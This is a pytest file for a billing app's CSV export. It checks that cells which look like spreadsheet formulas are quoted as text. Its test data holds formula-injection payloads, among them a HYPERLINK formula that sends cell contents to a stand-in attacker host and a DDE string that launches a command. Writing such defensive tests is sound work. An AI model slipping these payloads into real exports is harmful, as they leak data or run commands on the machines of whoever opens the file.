"""CSV exports never hand a spreadsheet a formula: user text starting = + - @ (or tab/CR) is quoted as text."""

from __future__ import annotations

import csv
import io

import pytest

from billing.csv_export import csv_lines, safe_cell
from billing.services.credits import adjust_credit
from kernel.money import to_micros
from tests.support.statements import at, charge, fund, make_allocation, make_job

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def read_csv(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def as_alice(client, alice):
    client.force_login(alice)
    return client


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_start_a_formula_is_quoted_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-2.40", "+1.00", "12", "0.000001", "alpha", "", 7, None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_usage_csv_quotes_a_job_named_like_a_formula(catalog, alice, as_alice):
    fund(alice, "100", "2026-03-01 00:00")
    job = make_job(alice, FORMULAS[0])
    allocation = make_allocation(job, "rtx-4090", 1, "2026-03-10 10:00", ended="2026-03-10 11:00")
    charge(allocation, "2026-03-10 10:00", "2026-03-10 11:00", "2.40")

    rows = read_csv(as_alice.get("/billing/usage.csv", {"since": "2026-03-01", "until": "2026-03-31"}))

    assert [row["job_name"] for row in rows] == ["'" + FORMULAS[0]]
    assert rows[0]["amount"] == "2.40"


def test_the_ledger_csv_quotes_a_formula_memo_and_keeps_negative_amounts_numbers(catalog, alice, as_alice):
    adjust_credit(
        alice, to_micros("5"), reason="@SUM(1+1)*cmd|' /C calc'!A0", actor=None, key="memo", now=at("2026-03-02 00:00")
    )
    adjust_credit(alice, -to_micros("1.5"), reason="-correction", actor=None, key="debit", now=at("2026-03-03 00:00"))

    rows = read_csv(as_alice.get("/billing/ledger.csv", {"since": "2026-03-01", "until": "2026-03-31"}))

    assert [(row["description"], row["amount"]) for row in rows] == [
        ("'@SUM(1+1)*cmd|' /C calc'!A0", "5.00"),
        ("'-correction", "-1.50"),
    ]


def test_the_header_row_is_written_as_is():
    assert next(csv_lines(["a", "b"], [])) == "a,b\r\n"
